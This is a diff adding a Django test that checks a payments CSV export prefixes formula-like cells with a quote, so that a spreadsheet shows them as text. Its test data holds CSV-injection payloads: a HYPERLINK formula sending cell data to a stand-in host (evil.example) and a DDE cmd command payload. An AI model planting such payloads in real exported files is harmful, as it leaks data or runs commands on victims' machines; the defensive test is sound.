@@ -11,7 +11,8 @@ from django.db import reset_queries
 from django.utils import timezone
 from django_tenants.utils import tenant_context
 
-from franchise_platform.payments.models import Payment
+from franchise_platform.network.models import Location
+from franchise_platform.payments.models import Deal, Payment
 from tests.factories import shop
 
 from .conftest import count_queries, paid_deal
@@ -83,6 +84,31 @@ def test_csv_holds_the_filtered_list_machine_readable(in_network, owner, three_p
     assert first["location"] == today.location.name
     assert first["paid_at"].endswith("+03:00")  # ISO 8601 with the zone
     assert (first["source"], first["is_test"]) == ("callback", "0")
+
+
+HOSTILE_TITLES = {
+    7001: '=HYPERLINK("https://evil.example/?"&A1,"Квест")',
+    7002: "+7 (999) 000-00-00",
+    7003: "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def test_csv_keeps_formula_like_cells_as_text(in_network, owner, three_payments):
+    """Lead titles and location names come from the public: a spreadsheet must show them, never
+    run them."""
+    for paid in three_payments:
+        Deal.objects.filter(pk=paid.deal.pk).update(title=HOSTILE_TITLES[paid.deal.crm_deal_id])
+    location = three_payments[0].location
+    Location.objects.filter(pk=location.pk).update(name="-2+3")
+    Location.objects.filter(pk=three_payments[2].location.pk).update(name="\t=1+1")
+
+    rows = {r["crm_deal_id"]: r for r in _csv(owner.get("/panel/payments/export.csv"))}
+
+    for lead, title in HOSTILE_TITLES.items():
+        assert rows[str(lead)]["deal_title"] == "'" + title
+    assert rows["7001"]["location"] == "'-2+3"
+    assert rows["7003"]["location"] == "'\t=1+1"
+    assert rows["7001"]["amount"] == "1500.00"  # plain numbers stay numbers
 
 
 def test_the_page_link_to_csv_carries_the_filters(in_network, owner, three_payments):
